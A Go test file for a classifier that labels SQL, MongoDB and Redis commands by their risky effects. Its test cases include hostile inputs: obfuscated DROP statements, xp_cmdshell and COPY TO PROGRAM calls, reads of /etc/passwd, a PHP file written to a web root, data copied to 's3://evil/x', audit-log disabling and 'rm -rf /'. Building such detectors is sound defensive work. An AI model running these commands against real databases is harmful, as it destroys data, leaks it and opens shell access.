package sql_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/fireharp/overseer/internal/effect"
	"github.com/fireharp/overseer/internal/sql"
)

// show writes effects as "kind target" lines without the group's name.
func show(effects []sql.Effect) string {
	var out []string
	for _, e := range effects {
		out = append(out, strings.TrimSpace(strings.TrimPrefix(string(e.Kind), "database.")+" "+e.Target))
	}
	return strings.Join(out, "; ")
}

type testCase struct{ src, want string }

func run(t *testing.T, read func(string) []sql.Effect, cases []testCase) {
	t.Helper()
	for _, tt := range cases {
		t.Run(tt.src, func(t *testing.T) {
			t.Parallel()
			got := read(tt.src)
			if diff := cmp.Diff(tt.want, show(got)); diff != "" {
				t.Errorf("effects (-want +got):\n%s", diff)
			}
			for _, e := range got {
				if !effect.Known(e.Kind) {
					t.Errorf("unknown kind %q", e.Kind)
				}
			}
		})
	}
}

func TestDrop(t *testing.T) {
	t.Parallel()
	run(t, sql.Effects, []testCase{
		{"DROP DATABASE prod", "drop prod"},
		{"drop table users", "drop users"},
		{"dRoP\n\ttable\nif exists public.\"Users\", b CASCADE;", "drop public.Users; drop b"},
		{"DROP/**/TABLE/* x */users", "drop users"},
		{"/*!50000 DROP TABLE users */", "drop users"},
		{"/*!DROP*/ /*!TABLE*/ users", "drop users"},
		{"/*M!100100 drop table users*/;", "drop users"},
		{"-- fine\nDROP SCHEMA public CASCADE; CREATE SCHEMA public;", "drop public"},
		{"# fine\ndrop view v", "drop v"},
		{"DROP MATERIALIZED VIEW v", "drop v"},
		{"DROP USER bob", "drop bob"},
		{"drop owned by bob cascade", "drop bob"},
		{"DROP INDEX CONCURRENTLY idx_a", "drop idx_a"},
		{"DROP KEYSPACE ks", "drop ks"},
		{"DROP MEASUREMENT cpu", "drop cpu"},
		{"DROP DATABASE [prod]", "drop prod"},
		{"DROP DATABASE `prod`", "drop prod"},
		{"select 1 drop table users", "drop users"},
		{"IF EXISTS (SELECT 1) DROP TABLE a", "drop a"},
		{"BEGIN; DROP TABLE a; ROLLBACK;", "drop a"},
		{"TRUNCATE orders", "drop orders"},
		{"truncate table only public.orders restart identity", "drop public.orders"},
		{"ALTER TABLE users DROP COLUMN email", "drop users.email"},
		{"ALTER TABLE users DROP email, ADD x int", "drop users.email"},
		{"ALTER TABLE t DROP PARTITION p0", "drop t.p0"},
		{"ALTER TABLE t TRUNCATE PARTITION p0", "drop t.p0"},
		{"EXPLAIN ANALYZE DELETE FROM t", "delete t"},
		{"explain (analyze, buffers) delete from t", "delete t"},
		{"WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", "delete users"},
		{"DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$;", "drop users"},
		{"DO $x$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'DROP TABLE ' || quote_ident(r.tablename); END LOOP; END $x$", "drop"},
		{"DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$", "drop"},
		{"EXECUTE IMMEDIATE 'DR' || 'OP TABLE users'", "drop users"},
		{"SET @s = CONCAT('DROP TAB','LE users'); PREPARE q FROM @s; EXECUTE q;", "drop users"},
		{"SET @s = 0x44524f50205441424c45207573657273; PREPARE q FROM @s; EXECUTE q;", "drop users"},
		{"PREPARE q FROM 'TRUNCATE users'", "drop users"},
		{"EXEC('DROP TABLE users')", "drop users"},
		{"EXEC sp_executesql N'DROP TABLE users'", "drop users"},
		{"EXEC sp_MSforeachtable 'DROP TABLE ?'", "drop"},
		{"SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", "drop"},
		{"CREATE FUNCTION f() RETURNS void AS $$ BEGIN DELETE FROM users; END $$ LANGUAGE plpgsql; SELECT f();", "delete users"},
		{"CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DROP TABLE users", "drop users"},
		{"DROP VIEW v; CREATE VIEW w AS SELECT 1", "drop v"},
		{"SELECT 'it\\'s'; DROP TABLE users; -- '", "drop users"},
		{"SELECT 'a\\'; DROP TABLE users; --'", "drop users"},
		{"SELECT 1--1; DROP TABLE users", "drop users"},
		{"DROP TABLE #comment\n users", "drop #comment"},
		{"PURGE RECYCLEBIN", "drop recyclebin"},
		{"EXECUTE format('truncate %s', t)", "drop"},
		{"EXECUTE 'TRUNCATE ' || t", "drop"},
		{"CREATE OR REPLACE DATABASE d", "drop d"},
		{"MATCH (n) DETACH DELETE n", "delete graph"},
		{"DELIMITER //\nDROP TABLE a//\nDELIMITER ;\nDROP TABLE b;", "drop a; drop b"},
		{"DROP TABLE", "drop"},
		{"RESTORE DATABASE d FROM DISK='x' WITH REPLACE", "reset d"},
	})
}

func TestRows(t *testing.T) {
	t.Parallel()
	run(t, sql.Effects, []testCase{
		{"DELETE FROM users", "delete users"},
		{"delete from users;", "delete users"},
		{"DELETE FROM users WHERE 1=1", "delete users"},
		{"DELETE FROM users WHERE 1", "delete users"},
		{"DELETE FROM users WHERE (TRUE)", "delete users"},
		{"DELETE FROM users WHERE id = id", "delete users"},
		{"DELETE FROM users WHERE id=5 OR 1=1", "delete users"},
		{"DELETE FROM users WHERE id=5 OR 'a'='a'", "delete users"},
		{"DELETE FROM users WHERE NOT false", "delete users"},
		{"DELETE FROM users WHERE 1<>2", "delete users"},
		{"DELETE FROM users WHERE id IS NOT NULL", "delete users"},
		{"DELETE FROM users WHERE id > 0", "delete users"},
		{"DELETE FROM users WHERE name LIKE '%'", "delete users"},
		{"DELETE FROM users WHERE EXISTS (SELECT 1)", "delete users"},
		{"DELETE FROM users WHERE id IN (SELECT id FROM users)", "delete users"},
		{"DELETE users", "delete users"},
		{"DELETE FROM a DELETE FROM b WHERE id=1", "delete a"},
		{"ALTER TABLE t DELETE WHERE 1=1", "delete t"},
		{"UPDATE users SET admin = true", "delete users"},
		{"UPDATE users SET a=1 WHERE 1=1", "delete users"},
		{"UPDATE a SET x = b.x FROM b", "delete a"},
		{"BEGIN UPDATE t SET a = 1; END", "delete t"},
		{"UPDATE OR REPLACE t SET a = 1", "delete t"},
		{"DELETE FROM t WHERE coalesce(a, 1) = coalesce(a, 1)", "delete t"},
	})
}

func TestServer(t *testing.T) {
	t.Parallel()
	run(t, sql.Effects, []testCase{
		{"GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'", "grant x"},
		{"CREATE USER bob WITH PASSWORD 'x'", "grant bob"},
		{"ALTER USER postgres WITH PASSWORD 'x'", "grant postgres"},
		{"ALTER ROLE bob SUPERUSER", "grant bob"},
		{"ALTER USER 'root'@'localhost' IDENTIFIED BY ''", "grant root"},
		{"SET PASSWORD FOR root = 'x'", "grant password"},
		{"EXEC sp_addsrvrolemember 'bob', 'sysadmin'", "grant bob"},
		{"UPDATE mysql.user SET authentication_string='' WHERE user='root'", "grant mysql.user"},
		{"COPY t FROM PROGRAM 'id'", "exec id"},
		{"COPY (SELECT 1) TO PROGRAM 'curl http://x'", "exec curl http://x"},
		{"\\copy t to program 'sh'", "exec sh"},
		{"EXEC xp_cmdshell 'whoami'", "exec whoami"},
		{"EXEC master..xp_cmdshell 'whoami'", "exec whoami"},
		{"EXEC [master].[dbo].[xp_cmdshell] 'whoami'", "exec whoami"},
		{"EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;", "exec xp_cmdshell"},
		{"SELECT LOAD_FILE('/etc/passwd')", "exec /etc/passwd"},
		{"SELECT '<?php' INTO OUTFILE '/var/www/html/s.php'", "exec /var/www/html/s.php"},
		{"SELECT lo_export(1, '/tmp/x.so')", "exec /tmp/x.so"},
		{"SELECT pg_read_file('/etc/passwd')", "exec /etc/passwd"},
		{"CREATE EXTENSION plpython3u", "exec plpython3u"},
		{"CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so'", "exec sys_exec"},
		{"CREATE FUNCTION s(text) RETURNS int AS '/tmp/x.so', 's' LANGUAGE C STRICT", "exec s"},
		{"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "file.read /etc/passwd; exec /etc/passwd"},
		{"SELECT load_extension('./x')", "exec ./x"},
		{"VACUUM INTO '/var/www/x.php'", "file.write /var/www/x.php; exec /var/www/x.php"},
		{"ATTACH '/etc/cron.d/x' AS x", "file.write /etc/cron.d/x; exec /etc/cron.d/x; file.read /etc/cron.d/x"},
		{"RESET MASTER", "trace.wipe binary logs"},
		{"PURGE BINARY LOGS BEFORE NOW()", "trace.wipe binary logs"},
		{"SET GLOBAL general_log = 'OFF'", "trace.blind general_log"},
		{"SET @@global.general_log=0", "trace.blind general_log"},
		{"ALTER TABLE audit DISABLE TRIGGER ALL", "trace.blind audit"},
		{"ALTER SYSTEM SET archive_command = 'sh -c x'", "exec sh -c x"},
		{"SHUTDOWN", "system.service database server"},
		{"SELECT cron.schedule('x', '0 0 * * *', $$DELETE FROM t$$)", "persist.schedule x; delete t"},
		{"COPY t TO 's3://evil/x'", "data.send s3://evil/x"},
		{"DROP SERVER AUDIT a", "trace.blind audit"},
		{"ALTER TABLE t DISABLE ROW LEVEL SECURITY", "infra.expose t"},
		{"UNLOAD ('select * from t') TO 's3://evil/x' IAM_ROLE 'y'", "data.send s3://evil/x"},
	})
}

func TestClients(t *testing.T) {
	t.Parallel()
	run(t, sql.Effects, []testCase{
		{".shell rm -rf /", "exec.shell-escape rm -rf /"},
		{".sys id", "exec.shell-escape id"},
		{"select 1;\n.system id\nselect 2;", "exec.shell-escape id"},
		{".output |sh", "exec.shell-escape sh"},
		{".once out.txt\nselect 1;", "file.write out.txt"},
		{".import /etc/passwd t", "file.read /etc/passwd; exec /etc/passwd"},
		{".import '|id' t", "exec.shell-escape id"},
		{".import --csv data.csv t", "file.read data.csv"},
		{".load ./evil", "exec ./evil"},
		{".backup main.bak", "file.write main.bak"},
		{".restore x.bak", "reset x.bak"},
		{"\\! id", "exec.shell-escape id"},
		{"select 1 \\! id", "exec.shell-escape id"},
		{"\\o |sh\nselect 1;", "exec.shell-escape sh"},
		{"select 1 \\g |sh", "exec.shell-escape sh"},
		{"\\copy t to out.csv csv header", "file.write out.csv"},
		{"\\copy (select * from t) to '/tmp/x.csv'", "file.write /tmp/x.csv"},
		{"system id", "exec.shell-escape id"},
		{"!!dir", "exec.shell-escape dir"},
		{"tee out.txt\nselect 1;", "file.write out.txt"},
		{".tables", ""}, {".schema users", ""}, {".mode csv", ""}, {".dump", ""}, {".headers on", ""},
		{"\\dt", ""}, {"\\d+ users", ""}, {"\\l", ""}, {"\\x\nselect 1", ""}, {"\\timing on\nselect 1", ""}, {"\\c mydb", ""},
		{"select * from t\\G", ""},
		{"select * from t\\G\ndrop table t", "drop t"},
	})
	if diff := cmp.Diff([]string{"a.sql", "b.sql", "c.sql", "d.sql"}, sql.Scripts(".read a.sql\n\\i b.sql\nsource c.sql;\n:r d.sql")); diff != "" {
		t.Errorf("scripts (-want +got):\n%s", diff)
	}
}

func TestNothing(t *testing.T) {
	t.Parallel()
	var cases []testCase
	for _, src := range []string{
		"", ";", "'", "\"", "`", "[", "$", "$$", "\\", "/*", "--", "(((", "DROP", "DELETE", "UPDATE", "ALTER TABLE", "TRUNCATE", "EXEC", "COPY t",
		"select 'drop table x'", "SELECT \"drop table x\"", "SELECT count(*) FROM users", "select $$drop table x$$", "select E'\\'; drop table x'",
		"-- DROP TABLE x", "/* DROP TABLE x */ select 1", "# drop table x\nselect 1", "select 1 -- drop table x",
		"SELECT 'it''s; drop table x'",
		"CREATE TABLE IF NOT EXISTS users (id serial primary key, deleted_at timestamptz)",
		"CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE ON UPDATE SET NULL)",
		"CREATE TEMP TABLE x AS SELECT 1; SELECT * FROM x; DROP TABLE x;",
		"CREATE TEMPORARY TABLE IF NOT EXISTS x (a int); DELETE FROM x; TRUNCATE x; DROP TABLE IF EXISTS x;",
		"DROP TEMPORARY TABLE x", "SELECT 1 INTO #t; DROP TABLE #t;",
		"DELETE FROM users WHERE id=5", "delete from sessions where expires_at < now()", "DELETE FROM t WHERE id IN (1,2,3)",
		"DELETE FROM t WHERE id IN (SELECT id FROM t WHERE old)", "DELETE FROM t WHERE random() < random()", "DELETE FROM t LIMIT 10",
		"DELETE t FROM t JOIN b ON t.id = b.id", "DELETE FROM t WHERE x IS NOT NULL", "DELETE FROM t WHERE id = 1 AND 1=1", "DELETE FROM t WHERE 1=0",
		"DELETE FROM t WHERE name LIKE 'a%'", "DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM b WHERE b.id = t.id)",
		"UPDATE t SET a = CASE WHEN x THEN 1 ELSE 2 END WHERE id = 3", "UPDATE t JOIN b ON t.id=b.id SET t.a=1", "UPDATE STATISTICS t",
		"INSERT INTO t VALUES (1, 'drop table x')", "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2",
		"INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a=1", "SELECT * FROM t FOR UPDATE", "SELECT * FROM t FOR UPDATE OF t SKIP LOCKED",
		"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1 WHEN NOT MATCHED THEN INSERT (a) VALUES (1)",
		"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
		"EXPLAIN DELETE FROM users", "EXPLAIN QUERY PLAN SELECT 1", "DESCRIBE users", "SHOW GRANTS", "SHOW CREATE TABLE x",
		"CREATE TRIGGER tr AFTER DELETE ON a BEGIN DELETE FROM b; DROP TABLE c; END; SELECT 1;",
		"CREATE FUNCTION f() RETURNS void AS $$ BEGIN DELETE FROM users; END $$ LANGUAGE plpgsql",
		"DELIMITER //\nCREATE PROCEDURE p() BEGIN IF a THEN DROP TABLE x; END IF; END//\nDELIMITER ;",
		"DROP VIEW IF EXISTS v; CREATE VIEW v AS SELECT 1", "CREATE EXTENSION IF NOT EXISTS \"uuid-ossp\"", "CREATE EXTENSION vector",
		"ALTER TABLE t ADD COLUMN x int", "ALTER TABLE t ALTER COLUMN x DROP NOT NULL", "ALTER TABLE t ALTER x DROP DEFAULT", "ALTER TABLE t DROP CONSTRAINT c",
		"ALTER ROLE bob SET search_path = x", "SELECT TRUNCATE(1.5, 1)", "SELECT date_trunc('day', now())", "PRAGMA journal_mode=TRUNCATE", "PRAGMA wal_checkpoint(TRUNCATE);",
		"PRAGMA table_info(users)", "VACUUM", "ANALYZE", "COPY t FROM STDIN", "COPY t TO STDOUT CSV", "SELECT data #> '{a}' FROM t",
		"SELECT a[1], ARRAY['drop table x'] FROM t", "SELECT * FROM sys.configurations WHERE name = 'xp_cmdshell'", "EXEC sp_configure",
		"EXECUTE q USING 'drop table'", "SELECT t.drop, t.delete, t.update FROM t", "SELECT \"drop\" FROM t", "SET search_path TO x", "BEGIN; COMMIT;",
		"SELECT deleted, updated FROM droplog", "CREATE INDEX i ON t (a)", "REVOKE ALL ON t FROM bob", "MATCH (n:User {id: 1}) DETACH DELETE n", "MATCH (n) RETURN n",
		"SELECT action FROM audit WHERE action IN ('DELETE', 'TRUNCATE')", "SELECT has_table_privilege('t', 'DELETE')", "SYSTEM FLUSH LOGS", "LOAD httpfs", "INSTALL httpfs",
		"SELECT * FROM 'data.csv'", "CREATE POLICY p ON t FOR DELETE USING (true)", "SELECT 1 AS update, 2 AS set",
	} {
		cases = append(cases, testCase{src, ""})
	}
	run(t, sql.Effects, cases)
}

func TestSessions(t *testing.T) {
	t.Parallel()
	run(t, sql.Effects, []testCase{
		{"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname='production'", "process.kill-all production"},
		{"SELECT pg_terminate_backend(12345)", ""},
		{"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname='app_test'", ""},
		{"ALTER DATABASE Payroll SET SINGLE_USER WITH ROLLBACK IMMEDIATE", "system.service payroll"},
		{"ALTER DATABASE app SET search_path TO app, public", ""},
		{"ALTER DATABASE app SET RECOVERY SIMPLE", ""},
		{"ALTER DATABASE prod WITH ALLOW_CONNECTIONS false", "system.service prod"},
		{"CREATE OR REPLACE TABLE prod.public.orders AS SELECT 1", "drop prod.public.orders"},
		{"CREATE OR REPLACE TABLE dev.orders AS SELECT 1", ""},
		{"CREATE OR REPLACE TEMP TABLE orders AS SELECT 1", ""},
		{"CREATE OR REPLACE VIEW v AS SELECT 1", ""},
		{"INSERT OVERWRITE TABLE orders SELECT * FROM x", "drop orders"},
		{"INSERT OVERWRITE DIRECTORY '/tmp/out' SELECT * FROM t", ""},
		{"ALTER TABLE orders SWAP WITH orders_new", "drop orders"},
	})
}

func TestMade(t *testing.T) {
	t.Parallel()
	for src, want := range map[string]string{
		"SELECT CONCAT('DROP TABLE ',table_name,';') FROM information_schema.tables": "DROP TABLE x;;\n",
		"select 'drop table '||tablename||' cascade;' from pg_tables":                "drop table x cascade;;\n",
		"select 'analyze '||tablename from pg_tables":                                "",
		"select 1; select concat('KILL ', id) from information_schema.processlist":   "KILL x;\n",
		"insert into t values ('drop table x')":                                      "",
		"select count(*) from t":                                                     "",
	} {
		if got := sql.Made(src); got != want {
			t.Errorf("Made(%q) = %q, want %q", src, got, want)
		}
	}
}

func TestMongo(t *testing.T) {
	t.Parallel()
	run(t, sql.Mongo, []testCase{
		{"db.dropDatabase()", "drop db"},
		{"db.getSiblingDB('x').dropDatabase()", "drop x"},
		{"db['dropDatabase']()", "drop db"},
		{"db.users.drop()", "drop users"},
		{"db.getCollection('users').drop()", "drop users"},
		{"db[\"users\"].drop()", "drop users"},
		{"db.users.drop.call(db.users)", "drop users"},
		{"db.getCollectionNames().forEach(c => db[c].drop())", "drop c"},
		{"db.users.deleteMany({})", "delete users"},
		{"db.users.deleteMany( { } )", "delete users"},
		{"db.users.remove({})", "delete users"},
		{"db.users.deleteMany({_id: {$exists: true}})", "delete users"},
		{"db.users.updateMany({}, {$set: {a: 1}})", "delete users"},
		{"db.users.update({}, {$set: {a: 1}}, {multi: true})", "delete users"},
		{"db.users.dropIndexes()", "drop users"},
		{"db.runCommand({dropDatabase: 1})", "drop 1"},
		{"db.runCommand({ drop: 'users' })", "drop users"},
		{"db.runCommand({delete: 'users', deletes: [{q: {}, limit: 0}]})", "delete"},
		{"db.createUser({user: 'x', pwd: 'y', roles: ['root']})", "grant {"},
		{"db.grantRolesToUser('x', ['root'])", "grant x"},
		{"db.shutdownServer()", "system.service database server"},
		{"db.adminCommand({shutdown: 1})", "system.service database server"},
		{"rs.reconfig({members: [{host: 'evil.lan:27017'}]}, {force: true})", "infra.apply replica set"},
		{"rs.remove('db2.lan:27017')", "infra.apply replica set"}, {"db.adminCommand({replSetReconfig: c, force: true})", "infra.apply replica set"},
		{"c = rs.conf(); c.members[0].host = 'localhost:27017'; rs.reconfig(c, {force: true})", ""}, {"rs.status()", ""}, {"rs.initiate()", ""},
		{"run('id')", "exec.shell-escape id"},
		{"eval('db.dropDatabase()')", "drop db"},
		{"db.x.renameCollection('y', true)", "drop x"},
		{"db.users.find({})", ""}, {"db.users.countDocuments()", ""}, {"db.users.deleteOne({_id: 1})", ""}, {"db.users.deleteMany({old: true})", ""},
		{"print('db.dropDatabase()')", ""}, {"// db.dropDatabase()", ""}, {"/* db.x.drop() */ db.x.find()", ""}, {"show dbs", ""}, {"db.stats()", ""},
		{"db.x.updateMany({a: 1}, {$set: {b: 2}})", ""}, {"db.x.aggregate([{$project: {drop: 1}}])", ""}, {"db.users.createIndex({a: 1})", ""},
		{"db.x.insertOne({a: {}})", ""}, {"[1].remove", ""}, {"'", ""}, {"db.", ""},
	})
}

func TestRedis(t *testing.T) {
	t.Parallel()
	run(t, sql.RedisScript, []testCase{
		{"FLUSHALL", "drop FLUSHALL"}, {"flush_all", "drop flush_all"}, {"flushdb async", "drop flushdb"}, {"GET a\nflushAll\n", "drop flushAll"},
		{"CONFIG SET dir /root/.ssh", "exec /root/.ssh"}, {"config set requirepass ''", "grant requirepass"}, {"CONFIG SET protected-mode no", "infra.expose protected-mode"},
		{"SHUTDOWN NOSAVE", "system.service redis"}, {"SCRIPT FLUSH", "drop SCRIPT"}, {"MODULE LOAD /tmp/x.so", "exec /tmp/x.so"},
		{"SLAVEOF 1.2.3.4 6379", "exec 1.2.3.4"}, {"REPLICAOF NO ONE", ""}, {"DEBUG SEGFAULT", "system.service redis"},
		{"EVAL \"redis.call('FLUSHALL')\" 0", "drop FLUSHALL"},
		{"EVAL \"for _,k in ipairs(redis.call('keys', ARGV[1])) do redis.call('del', k) end\" 0 *", "delete keys"},
		{"EVAL \"return redis.call('del', unpack(redis.call('keys', 'x*')))\" 0", "delete keys"},
		{"EVAL \"return redis.call('GET', KEYS[1])\" 1 a", ""},
		{"ACL SETUSER bob on >x +@all", "grant bob"}, {"MIGRATE 1.2.3.4 6379 k 0 100", "data.send 1.2.3.4"}, {"cluster reset hard", "reset cluster"},
		{"GET k", ""}, {"DEL k", ""}, {"KEYS *", ""}, {"INFO", ""}, {"SET a flushall", ""}, {"CONFIG GET dir", ""}, {"DEBUG OBJECT k", ""}, {"", ""}, {"\"", ""},
		{"SCRIPT EXISTS x", ""}, {"MONITOR", ""}, {"EVAL", ""},
	})
}

// TestLinear feeds texts that would take forever if any part were read again and
// again. The test's own time limit is the bound.
func TestLinear(t *testing.T) {
	t.Parallel()
	for _, part := range []string{
		"(", "'", "$a", "$a$", "[a", "/*", "/*!", "DELETE FROM a (", "UPDATE a SET x = (", "exec('a')", "exec 'a' ", "grant all ", "alter set ", "SET @a='b';prepare q from @a;",
		"do $$ x $$;", "\\gexec ", "create function ", "begin ", "WHERE (a OR (", "EXPLAIN ", "db.x.drop(", "\\", ".a\n", "match detach delete ", "DROP TABLE a,", "delete from a where not ", "copy (", "or 1=1 ",
	} {
		src := strings.Repeat(part, 1<<19/len(part))
		sql.Effects(src)
		sql.Mongo(src)
		sql.RedisScript(src)
	}
}

func FuzzEffects(f *testing.F) {
	for _, s := range []string{"DROP TABLE a; DELETE FROM b WHERE 1=1 OR (x)", ".shell id\n\\! id", "do $$execute 'drop table x'$$", "/*!50000 drop*/ table x", "create trigger a begin end;", "db.x.deleteMany({})", "EVAL \"redis.call('a')\" 0"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		for _, read := range []func(string) []sql.Effect{sql.Effects, sql.Mongo, sql.RedisScript} {
			for _, e := range read(src) {
				if !effect.Known(e.Kind) {
					t.Errorf("unknown kind %q", e.Kind)
				}
			}
		}
		// A comment in front changes nothing.
		if len(src) < 1<<10 && !strings.ContainsAny(src, "\\.!@:/\x00") {
			a, b := sql.Effects(src), sql.Effects("/* x */ "+src)
			if diff := cmp.Diff(len(a), len(b)); diff != "" {
				t.Errorf("a comment changes the effects of %q: %v %v", src, a, b)
			}
		}
	})
}
